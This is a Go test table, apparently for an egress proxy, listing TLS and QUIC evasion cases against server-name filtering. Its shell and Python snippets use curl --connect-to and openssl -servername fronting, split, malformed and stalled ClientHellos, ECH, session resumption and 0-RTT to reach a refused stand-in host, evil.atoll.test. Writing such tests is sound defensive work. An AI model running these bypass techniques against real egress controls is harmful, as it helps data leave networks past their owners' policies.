package egress

// What a ClientHello says, or doesn't.
var helloRows = []evasion{
	{id: "sni-other", attack: "TLS to an allowed host, with a refused one in its hello", in: listed, script: `#!
curl -sk -m 60 --connect-to evil.atoll.test:443:api.atoll.test:443 https://evil.atoll.test/
openssl s_client -connect api.atoll.test:443 -servername evil.atoll.test </dev/null 2>/dev/null | head -2
curl -s -m 60 https://api.atoll.test/fine`, arrives: []string{"api GET api.atoll.test/fine HTTP/2.0"}, open: "hello evil"},
	{id: "sni-missing", attack: "TLS without a name in its hello", in: listed,
		script: `talk(RAW, 443, records(hello()))`},
	{id: "sni-none", attack: "a hello without any extension, as before TLS 1.0's", in: listed,
		script: `talk(RAW, 443, records(hello(bare=True, version=0x0301)))`},
	{id: "sni-garbled", attack: "a name with a zero byte, a space or a dot too many", in: listed, script: `
for name in (b"raw.atoll.test\0.evil.atoll.test", b"raw.atoll.test evil", b"raw.atoll.test..", b"93.184.215.30", b""):
    talk(RAW, 443, records(hello(name)))`},
	{id: "sni-twice", attack: "two names in one hello", in: listed, script: `
talk(RAW, 443, records(hello(RAW, server_name(EVIL))))
two = b"".join(b"\0" + struct.pack(">H", len(n)) + n for n in (b"raw.atoll.test", b"evil.atoll.test"))
talk(RAW, 443, records(hello(None, extension(0, struct.pack(">H", len(two)) + two))))`},
	{id: "ech", attack: "an encrypted hello inside of an allowed one", in: listed, script: `
for kind in (0xfe0d, 0xfe0a, 0xffce):
    talk(RAW, 443, records(hello(RAW, extension(kind, b"\0\0\x01\0\x01\x2a\0\x20" + b"evil" * 8 + b"\0\x20" + b"evil" * 8))))`},
	{id: "hello-records", attack: "a refused name, split over many records", in: listed, script: `
for size in (1, 7, 60):
    talk(RAW, 443, records(hello(EVIL), size))`},
	{id: "hello-segments", attack: "a refused name, one byte in each packet", in: listed, script: `
talk(RAW, 443, *[bytes([b]) for b in records(hello(EVIL))], pause=0.002)`},
	{id: "hello-huge", attack: "a refused name behind more than a reader would keep", in: listed, script: `
for pad in (9000, 20000, 33000, 60000):
    talk(RAW, 443, records(hello(EVIL, pad=pad)))`},
	{id: "hello-stalled", attack: "a hello that stops in the middle until the reader gives up", in: listed, script: `
h = records(hello(EVIL))
talk(RAW, 443, h[:1], h[1:], pause=1.3)
talk(RAW, 443, h[:80], h[80:], pause=1.3)`},
	{id: "hello-retry", attack: "another name in the second hello, which the server asks for (HelloRetryRequest)", in: listed, script: `
s = tcp(RAW, 443, wait=PATIENCE)
say(s, records(hello(RAW, share=b"")))
print("asked again:", b"\xcf\x21\xad\x74" in hear(s))
s.settimeout(WAIT)
say(s, b"\x14\x03\x03\0\x01\x01" + records(hello(EVIL)))
print(hear(s)[:100])`, prints: "asked again: true", never: `evil\.atoll\.test`, open: `evil\.atoll\.test`},
	{id: "hello-malformed", attack: "a hello that only a lenient server reads", in: listed, script: `
h = records(hello(EVIL))
talk(RAW, 443, b"\x16\x03\x09" + h[3:])
talk(RAW, 443, b"\x16\x02\x00" + h[3:])
talk(RAW, 443, b"\x16\x03\x01\0\0" + h)
talk(RAW, 443, b"\x15\x03\x01\0\x02\x01\x00" + h)
talk(RAW, 443, b"\x14\x03\x01\0\x01\x01" + h)`},
	{id: "ssl2", attack: "the hello of SSL 2", in: listed, script: `
body = b"\x01\x03\x01" + struct.pack(">HHH", 3, 0, 16) + b"\x07\x00\xc0" + b"evil" * 4
talk(RAW, 443, struct.pack(">H", 0x8000 | len(body)) + body)`},
	{id: "resumption", attack: "a session with an allowed host, resumed for a refused one", in: listed, script: `#!
t=$(mktemp)
(for n in $(seq 600); do test -s $t && break; sleep 0.1; done; echo) | timeout 60 openssl s_client -tls1_3 -connect api.atoll.test:443 -servername api.atoll.test -sess_out $t >/dev/null 2>&1
openssl s_client -tls1_3 -connect api.atoll.test:443 -servername evil.atoll.test -sess_in $t </dev/null 2>/dev/null | head -1`,
		arrives: []string{"api hello api.atoll.test"}, open: "hello evil"},
	{id: "early-data", attack: "data right behind a hello, for a refused name (0-RTT)", in: listed, script: `
early = b"\x17\x03\x03\0\x20" + b"evil" * 8
talk(RAW, 443, records(hello(EVIL, extension(42, b""))) + early)`},
	{id: "tls-odd-port", attack: "TLS for a refused name on ports where nobody expects it", in: listed, script: `#!
for port in 80 22 8443 31337; do
  curl -sk -m 60 --connect-to evil.atoll.test:$port:raw.atoll.test:$port https://evil.atoll.test:$port/
done`},
	{id: "plain-on-443", attack: "HTTP in clear on port 443, for a refused name", in: listed,
		script: `talk(RAW, 443, http("GET / HTTP/1.1", "Host: evil.atoll.test"))`},
	{id: "quic", attack: "QUIC to an allowed and to a refused host", in: listed, script: `
initial = b"\xc3\0\0\0\x01\x08evilevil\0\0\x40\x40" + b"evil" * 300
for host in (RAW4, EVIL4, EVIL6):
    shout(host, 443, initial)
try:
    shout(socket.gethostbyname(RAW), 443, initial)
except OSError as e:
    print(e)`},
	{id: "quic-secret", attack: "QUIC to a secret's host under the open policy, where nobody could read it", in: secrets, script: `
shout(socket.gethostbyname(RAW), 443, b"\xc3\0\0\0\x01\x08evilevil")`},
}
